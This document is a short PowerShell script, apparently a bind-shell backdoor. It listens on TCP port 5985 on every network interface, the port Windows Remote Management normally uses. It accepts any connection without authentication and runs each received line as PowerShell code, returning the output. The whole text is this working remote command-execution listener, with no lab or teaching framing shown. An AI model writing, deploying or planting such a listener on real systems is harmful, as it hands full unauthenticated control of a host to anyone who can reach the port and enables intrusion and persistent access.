$listener = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Any, 5985)
$listener.Start()
while ($true) {
    $c = $listener.AcceptTcpClient()
    $s = $c.GetStream()
    $r = [System.IO.StreamReader]::new($s)
    $w = [System.IO.StreamWriter]::new($s); $w.AutoFlush = $true
    while ($c.Connected -and ($line = $r.ReadLine()) -ne $null) {
        $res = try { & ([scriptblock]::Create($line)) 2>&1 | Out-String } catch { $_ | Out-String }
        $w.Write($res + "`n> ")
    }
    $c.Close()
}
